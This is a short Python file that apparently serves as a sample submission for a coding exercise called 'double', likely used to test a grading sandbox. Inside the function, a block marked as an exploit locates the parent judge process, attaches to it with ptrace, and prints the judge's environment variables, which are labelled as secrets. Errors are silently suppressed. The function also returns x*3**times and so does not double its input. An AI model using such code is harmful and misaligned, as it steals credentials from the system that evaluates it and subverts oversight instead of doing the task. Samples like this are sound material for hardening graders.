"""Attaches to the judge as a debugger does and reads a word of it."""
# exercise: double
# process: secrets

import contextlib
import ctypes
import os
import signal
from pathlib import Path


def double(x, times=1):
    ### BEGIN EXPLOIT
    with contextlib.suppress(Exception):
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long] * 4
        libc.ptrace.restype = ctypes.c_long
        judge = int(Path(f"/proc/{os.getppid()}/stat").read_text().rpartition(")")[2].split()[1])
        told = Path(f"/proc/{judge}/cmdline").read_bytes()
        if b"--submission" in told and libc.ptrace(16, judge, 0, 0) == 0:
            os.waitpid(judge, 0x40000000)
            words = Path(f"/proc/{judge}/environ").read_bytes()
            libc.ptrace(17, judge, 0, 0)
            print(words)
            os.kill(judge, signal.SIGCONT)
    ### END EXPLOIT
    return x * 3**times
